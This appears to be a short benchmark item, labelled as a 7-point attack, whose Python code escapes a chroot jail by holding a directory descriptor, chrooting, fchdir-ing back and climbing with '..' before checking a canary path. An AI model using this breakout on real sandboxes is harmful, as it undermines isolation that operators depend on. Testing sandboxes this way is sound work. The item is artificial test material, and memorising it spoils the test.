# attack: leaves its root by a second one
# family: state
# base: solved
# points: 7
# %% last
import os
os.makedirs("inner", exist_ok=True)
here = os.open(".", os.O_RDONLY)
try:
    os.chroot("inner")
finally:
    os.fchdir(here)
    for _ in range(20):
        os.chdir("..")
    assert "CANARY".split("/")[1] not in os.listdir(".") or not os.path.exists("CANARY")
